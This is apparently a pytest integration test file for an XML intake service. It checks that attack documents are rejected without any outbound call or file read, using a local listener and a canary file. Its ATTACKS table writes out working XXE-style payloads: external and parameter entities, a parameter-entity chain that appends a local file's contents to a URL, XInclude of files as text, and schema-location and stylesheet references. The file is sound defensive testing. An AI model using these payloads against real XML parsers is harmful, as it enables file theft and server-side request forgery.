"""Attack documents reach nobody: while they are refused, no address in them is called and no file is read.

``test_intake_attacks.py`` proves the refusals themselves (defusedxml's list); here somebody listens where they point.
"""

import asyncio
import gzip
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from time import monotonic

import httpx
import pytest

from hub.bootstrap.hub import Hub
from tests.integration.intake_documents import single
from tests.integration.intake_parts import door, key_of, post

pytestmark = pytest.mark.integration

QUICK = 2.0
"""Seconds."""
SECRET = "canary-in-a-file"
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


def document(declaration: str, content: str = "&e;") -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE x {declaration}><x>{content}</x>'.encode()


def claim_with(attributes: str = "", head: str = "") -> bytes:
    return head.encode() + single(1).replace(b"<Claim ", f"<Claim {attributes} ".encode(), 1)


ATTACKS: dict[str, Callable[[str, str], bytes]] = {
    "external entity": lambda url, _: document(f'[<!ENTITY e SYSTEM "{url}">]'),
    "external entity with a public name": lambda url, _: document(f'[<!ENTITY e PUBLIC "p" "{url}">]'),
    "file entity": lambda _, file: document(f'[<!ENTITY e SYSTEM "{file}">]'),
    "external DTD": lambda url, _: document(f'SYSTEM "{url}"', ""),
    "public DTD": lambda url, _: document(f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}"', ""),
    "parameter entity": lambda url, _: document(f'[<!ENTITY % p SYSTEM "{url}"> %p;]', ""),
    "parameter entity that sends a file": lambda url, file: document(
        f'[<!ENTITY % f SYSTEM "{file}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM \'{url}?%f;\'>"> %d; %s;]', ""
    ),
    "unparsed entity and notation": lambda url, _: document(
        f'[<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{url}" NDATA n>]', ""
    ),
    "schema location": lambda url, _: claim_with(f'{XSI} xsi:schemaLocation="urn:be:mediationhub:cia:1 {url}"'),
    "schema location without namespace": lambda url, _: claim_with(f'{XSI} xsi:noNamespaceSchemaLocation="{url}"'),
    "xinclude": lambda url, _: single(1).replace(b"<Debtor", f'<xi:include {XI} href="{url}"/><Debtor'.encode()),
    "xinclude of a file as text": lambda _, file: single(1).replace(
        b"<Debtor", f'<xi:include {XI} href="{file}" parse="text"/><Debtor'.encode()
    ),
    "stylesheet": lambda url, _: claim_with(head=f'<?xml-stylesheet type="text/xsl" href="{url}"?>'),
    "base": lambda url, _: claim_with(f'xml:base="{url}"'),
    "gzip around an external entity": lambda url, _: gzip.compress(document(f'[<!ENTITY e SYSTEM "{url}">]')),
}


@asynccontextmanager
async def listening() -> AsyncIterator[tuple[str, list[bytes]]]:
    """An address, and what anybody said there."""
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/e.dtd", heard


@pytest.mark.parametrize("name", ATTACKS)
async def test_attack_documents_call_nobody_and_read_no_file(hub: Hub, tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    headers = {"content_encoding": "gzip"} if name.startswith("gzip") else {}
    key = await key_of(hub, "etude-001", "office", ["cia"])
    async with listening() as (url, heard), door(hub, key) as office:
        began = monotonic()
        answer = await post(office, ATTACKS[name](url, secret.as_uri()), **headers)
        assert monotonic() - began < QUICK

    assert answer.status_code < 500
    assert SECRET not in answer.text
    assert heard == []
    stored = await hub.database.pool.fetchval("SELECT count(*) FROM document WHERE state = 'rejected'")
    assert stored == (1 if answer.status_code >= httpx.codes.BAD_REQUEST else 0)
    if name not in {"schema location", "schema location without namespace", "stylesheet", "base"}:
        assert answer.status_code in {400, 422}
